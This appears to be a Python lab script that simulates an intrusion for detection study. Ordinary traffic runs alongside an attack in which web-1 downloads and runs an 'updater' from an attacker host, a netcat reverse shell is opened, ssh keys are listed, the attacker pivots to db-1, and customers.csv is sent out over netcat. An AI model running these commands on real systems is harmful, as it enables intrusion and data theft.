"""An intrusion into web-1 and on to db-1, beside ordinary traffic of desk-1; the attacker's host is not watched."""

import os
import time

import services
from lab import run

NAMES = '''192.0.2.10 desk-1.example.net desk-1
192.0.2.20 web-1.example.net web-1
192.0.2.30 db-1.example.net db-1
2001:db8:1::20 web-1-v6.example.net
2001:db8:1::30 db-1-v6.example.net
'''
NETWORKS = ('192.0.2.0/24', '198.51.100.0/24', '2001:db8:1::/64')
PRECISION = 'nano'
FORMS = {'desk-1': 'full', 'web-1': 'audit', 'db-1': 'full'}

DATABASE = '''import socketserver
class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"rows for " + self.rfile.readline())
class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
Server(("192.0.2.30", 5432), Handler).serve_forever()
'''

# The web application: a long-lived process that asks the database every now and then.
APPLICATION = '''import socket, time
while True:
    with socket.create_connection(("192.0.2.30", 5432)) as s:
        s.sendall(b"select 1\\n")
        s.recv(1000)
    time.sleep(1.7)
'''


def prepare(lab):
    desk = lab.host('desk-1', '192.0.2.10/24', '2001:db8:1::10/64')
    web = lab.host('web-1', '192.0.2.20/24', '2001:db8:1::20/64')
    database = lab.host('db-1', '192.0.2.30/24', '2001:db8:1::30/64')
    attacker = lab.host('attacker', '198.51.100.66/24')
    here = os.path.dirname(os.path.abspath(__file__))
    os.makedirs(os.path.join(attacker.files, 'srv/www'))
    run('gcc', '-Os', '-s', '-o', os.path.join(attacker.files, 'srv/www/updater'), os.path.join(here, 'updater.c'))
    services.page(lab, web, 'index.html', 2500)
    lab.put(database, 'srv/database.py', DATABASE)
    lab.put(database, 'srv/customers.csv', 'id,name\n' + ''.join(f'{i},Customer {i}\n' for i in range(1, 400)))
    lab.put(web, 'srv/application.py', APPLICATION)
    services.ssh_key(lab, web, 'alice', [database])
    services.ssh_key(lab, desk, 'bob', [web])
    sessions = {name: lab.session(host, user) for name, host, user in (
        ('web_root', web, 'root'), ('web_bob', web, 'bob'), ('web_alice', web, 'alice'), ('db_root', database, 'root'),
        ('db_bob', database, 'bob'), ('alice', desk, 'alice'), ('bob', desk, 'bob'), ('attacker', attacker, 'root'))}
    services.nginx(lab, web, sessions['web_root'])
    services.sshd(lab, web, sessions['web_root'])
    services.dnsmasq(web, sessions['web_root'], ['web-1.example.net,192.0.2.20,2001:db8:1::20', 'db-1.example.net,192.0.2.30'])
    services.sshd(lab, database, sessions['db_root'])
    sessions['db_bob'].run('python3 /srv/database.py &')
    time.sleep(0.5)
    os.mkfifo(os.path.join(attacker.files, 'srv/typed'))
    hacker = sessions['attacker']
    hacker.run('cd /srv/www && python3 -m http.server --bind 198.51.100.66 8080 >/dev/null 2>&1 &')
    hacker.run('nc -dlk 198.51.100.66 8443 >/srv/checkins &')
    hacker.run('nc -dlk 198.51.100.66 9001 >/srv/loot &')
    hacker.run('nc -lvn 198.51.100.66 4444 </srv/typed >/srv/shell.out 2>&1 &')
    sessions['typed'] = open(os.path.join(attacker.files, 'srv/typed'), 'w', encoding='utf-8')
    time.sleep(1.5)
    return [desk, web, database], sessions


def type_command(s, text, pause):
    s['typed'].write(text + '\n')
    s['typed'].flush()
    time.sleep(pause)


def play(lab, s):
    # Everyday traffic that goes on all the time.
    s['web_bob'].run('python3 /srv/application.py &')
    s['alice'].start('for i in $(seq 1 14); do curl -s -o /dev/null http://web-1.example.net/index.html; sleep 1.3; done')
    s['bob'].run('dig +short @192.0.2.20 db-1.example.net A')
    s['bob'].run('ssh web-1 "hostname; uptime"')
    time.sleep(1.5)

    # The account alice on web-1 fetches a program and starts it.
    s['web_alice'].run('curl -s -o /tmp/updater http://198.51.100.66:8080/updater')
    time.sleep(0.7)
    s['web_alice'].run('chmod +x /tmp/updater')
    s['web_alice'].run('/tmp/updater &')
    s['bob'].run('curl -sk -o /dev/null https://web-1-v6.example.net/index.html')
    time.sleep(2.5)

    # What the attacker types into the shell that came in.
    type_command(s, 'id', 0.8)
    type_command(s, 'hostname; ls -la ~/.ssh', 1.0)
    s['bob'].run('dig +short @2001:db8:1::20 web-1.example.net AAAA')
    type_command(s, 'ssh db-1 "id; hostname; head -3 /srv/customers.csv"', 2.0)
    s['bob'].run('curl -s -o /dev/null http://web-1-v6.example.net/index.html')
    type_command(s, 'ssh db-1 "nc -N 198.51.100.66 9001 < /srv/customers.csv"', 2.0)
    type_command(s, 'rm -f /tmp/updater', 0.5)
    type_command(s, 'exit', 0.5)
    s['typed'].close()
    s['alice'].wait()
    s['web_bob'].run('kill $!')
    time.sleep(2.5)
